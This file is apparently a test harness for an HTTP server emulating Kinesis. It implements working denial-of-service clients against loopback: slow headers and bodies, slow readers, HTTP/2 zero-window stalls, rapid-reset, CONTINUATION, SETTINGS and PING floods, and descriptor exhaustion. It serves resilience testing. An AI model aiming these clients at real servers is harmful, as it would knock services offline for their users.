"""Clients that abuse a server of HTTP: slow ones, floods, hoarders; by plain bytes, on loopback."""
import http.client
import json
import select
import socket
import threading
import time

AUTH = (
    "X-Amz-Date: 20261122T000000Z\r\nAuthorization: AWS4-HMAC-SHA256 Credential=test/20261122/us-east-1/"
    "kinesis/aws4_request, SignedHeaders=host, Signature=0\r\n"
)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SHARD = "shardId-000000000000"


# ---------------------------------------------------------------- the wire


def head(target, size):
    return (
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-amz-json-1.1\r\n"
        f"X-Amz-Target: Kinesis_20131202.{target}\r\n{AUTH}Content-Length: {size}\r\n\r\n"
    ).encode()


def request(target, body):
    data = json.dumps(body).encode()
    return head(target, len(data)) + data


def call(port, target, body, connection=None):
    """One call that must succeed; its answer."""
    own = connection or http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        headers = {"Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": f"Kinesis_20131202.{target}"}
        headers |= dict(line.split(": ", 1) for line in AUTH.strip().split("\r\n"))
        own.request("POST", "/", json.dumps(body), headers)
        answer = own.getresponse()
        data = answer.read()
        if answer.status != 200:
            raise RuntimeError(f"{target}: {answer.status} {data[:200]!r}")
        return json.loads(data) if data else {}
    finally:
        if connection is None:
            own.close()


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """HPACK: a literal field without indexing, no Huffman."""

    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        size, coded = len(data) - 127, b"\x7f"
        while size >= 128:
            coded += bytes([size % 128 + 128])
            size //= 128
        return coded + bytes([size]) + data

    return b"\x00" + text(name.encode()) + text(value.encode())


def h2_head(stream, target, more=()):
    fields = [line.split(": ", 1) for line in AUTH.strip().split("\r\n")]
    block = b"".join(literal(n.lower(), v) for n, v in [
        (":method", "POST"), (":path", "/"), (":scheme", "http"), (":authority", "x"), *more,
        ("content-type", "application/x-amz-json-1.1"), ("x-amz-target", f"Kinesis_20131202.{target}"), *fields])
    return frame(1, 4, stream, block)


def h2_request(stream, target, body):
    return h2_head(stream, target) + frame(0, 1, stream, json.dumps(body).encode())


def connect(port, receive=None):
    sock = socket.socket()
    if receive:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    return sock


# ---------------------------------------------------------------- abuses
# Each takes (port, count, facts), brings itself up, and gives a step that is called once a second until
# the end; the step says how many attackers are still connected, and how many were ended (those of floods
# come again).


def crowd(socks, each=None):
    """Attackers that stay; `each` is sent on every one of them once a second."""
    alive = {sock.fileno(): sock for sock in socks}

    def step():
        watch = select.poll()
        for fd in alive:
            watch.register(fd, select.POLLRDHUP)
        for fd, _ in watch.poll(0):  # the other side has ended it; POLLERR and POLLHUP come unasked
            alive.pop(fd).close()
        for fd, sock in list(alive.items() if each else ()):
            sock.setblocking(False)
            try:
                sock.send(each)
            except BlockingIOError:
                pass
            except OSError:
                alive.pop(fd).close()
        return len(alive), 0

    return step


def together(*kinds):
    """Several kinds of abuse at once."""

    def bring_up(*how):
        steps = [kind(*how) for kind in kinds]
        return lambda: tuple(map(sum, zip(*[step() for step in steps])))

    return bring_up


def idle(port, count, _):
    return crowd([connect(port) for _ in range(count)])


def slow_heads(port, count, _):
    socks = [connect(port) for _ in range(count)]
    for sock in socks:
        sock.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nX-A: ")
    return crowd(socks, b"a")


def slow_bodies(port, count, _):
    socks = [connect(port) for _ in range(count)]
    for sock in socks:
        sock.sendall(head("PutRecord", 1_000_000) + b'{"Data":"')
    return crowd(socks, b"A")


def slow_readers(port, count, facts):
    """Each asks for a page of 10 MiB and reads a byte now and then."""
    socks = [connect(port, 4096) for _ in range(count)]
    ask = request("GetRecords", {"ShardIterator": facts["iterator"]})
    for sock in socks:
        sock.sendall(ask)
    held = crowd(socks)

    def step():
        for sock in socks:
            sock.setblocking(False)
            try:
                sock.recv(1)
            except OSError:
                pass  # nothing there, or it has been let go of
        return held()

    return step


def half(kind):
    return lambda port, count, facts: kind(port, count // 2, facts)


def h2_bodies(port, count, _):
    """HTTP/2: ten requests a connection, each with most of a body of 1 MB, as far as windows allow."""
    socks = []
    for _ in range(count // 4):
        sock = connect(port)
        sock.sendall(PREFACE + frame(4, 0, 0))
        for stream in range(1, 21, 2):
            sock.sendall(h2_head(stream, "PutRecord", [("content-length", "1000000")]))
        sock.setblocking(False)
        socks.append(sock)
    windows = {sock.fileno(): Windows(sock, range(1, 21, 2), 900_000) for sock in socks}
    held = crowd(socks)

    def go_on():
        while True:
            for one in list(windows.values()):
                one.go_on()
            time.sleep(0.05)

    threading.Thread(target=go_on, daemon=True).start()
    return held


class Windows:
    """The sending half of HTTP/2's flow control, so that an attacker gets as far as a client may."""

    def __init__(self, sock, streams, size):
        self.sock, self.said, self.out = sock, b"", b""
        self.left = dict.fromkeys(streams, size)
        self.window = dict.fromkeys([0, *streams], 65535)

    def go_on(self):
        try:
            while self.listen():
                pass
            for stream in self.left:
                while size := min(16384, self.left[stream], self.window[0], self.window[stream]):
                    self.left[stream] -= size
                    self.window[0] -= size
                    self.window[stream] -= size
                    self.out += frame(0, 0, stream, b"x" * size)
            while self.out:
                self.out = self.out[self.sock.send(self.out) :]
        except OSError:
            pass  # it is full, or it has been let go of

    def listen(self):
        try:
            self.said += self.sock.recv(65536)
        except BlockingIOError:
            return False
        while len(self.said) >= 9 and len(self.said) >= 9 + (size := int.from_bytes(self.said[:3], "big")):
            kind, stream, payload = self.said[3], int.from_bytes(self.said[5:9], "big"), self.said[9 : 9 + size]
            self.said = self.said[9 + size :]
            if kind == 8:
                self.window[stream] = self.window.get(stream, 0) + int.from_bytes(payload, "big")
            elif kind == 3:
                self.left.pop(stream, None)
        return False


def zero_windows(port, count, facts):
    """HTTP/2 with windows of nothing: many pages are asked for, none is taken."""
    socks = []
    for _ in range(max(1, count // 20)):
        sock = connect(port)
        sock.sendall(PREFACE + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00"))
        sock.sendall(b"".join(h2_request(n, "GetRecords", {"ShardIterator": facts["iterator"]}) for n in range(1, 41, 2)))
        socks.append(sock)
    return crowd(socks, frame(6, 0, 0, b"12345678"))


def subscribers(port, count, facts):
    """Fan-out subscribers, one a consumer, that never read."""
    socks = []
    for arn in facts["consumers"][:count]:
        sock = connect(port, 4096)
        sock.sendall(request("SubscribeToShard", {
            "ConsumerARN": arn, "ShardId": SHARD, "StartingPosition": {"Type": "LATEST"}}))
        socks.append(sock)
    return crowd(socks)


def flood(block):
    """A few connections that send block as fast as it is taken, and come again when they are ended."""

    def bring_up(port, _count, _facts):
        ended = [0]

        def attack():
            while True:
                try:
                    sock = connect(port)
                    sock.sendall(PREFACE + frame(4, 0, 0))
                    for data in block():
                        sock.sendall(data)
                        sock.setblocking(False)
                        try:
                            while sock.recv(65536):
                                pass
                            break
                        except BlockingIOError:
                            sock.settimeout(30)
                except OSError:
                    pass
                ended[0] += 1
                sock.close()

        for _ in range(2):
            threading.Thread(target=attack, daemon=True).start()
        return lambda: (0, ended[0])

    return bring_up


def resets():
    block = b"\x83\x84\x86\x01\x01x"  # POST / http x
    for first in range(1, 2_000_000, 400):
        yield b"".join(frame(1, 5, n, block) + frame(3, 0, n, b"\0\0\0\x08") for n in range(first, first + 400, 2))


def forever(data):
    def blocks():
        while True:
            yield data

    return blocks


def continuations():
    yield frame(1, 0, 1, b"\x82")
    while True:
        yield frame(9, 0, 1, b"\x00\x01a\x01b" * 10) * 20


CAPPED = "everything, in 256 MB"
SUBSCRIBERS = "subscribers that do not read"
ABUSES = {
    "nothing": lambda *_: lambda: (0, 0),
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "slow readers of 10 MiB pages": slow_readers,
    "HTTP/2 windows of zero": zero_windows,
    "HTTP/2 bodies that do not end": h2_bodies,
    "rapid resets": flood(resets),
    "CONTINUATION flood": flood(continuations),
    "SETTINGS flood": flood(forever(frame(4, 0, 0) * 500)),
    "PING flood": flood(forever(frame(6, 0, 0, b"12345678") * 500)),
    "slow connections and rapid resets": together(half(slow_heads), half(slow_bodies), flood(resets)),
    SUBSCRIBERS: subscribers,
    CAPPED: together(*map(half, (idle, slow_heads, slow_bodies, slow_readers, zero_windows, h2_bodies, subscribers))),
    "10,000 idle connections": idle,
    "out of descriptors": idle,
}
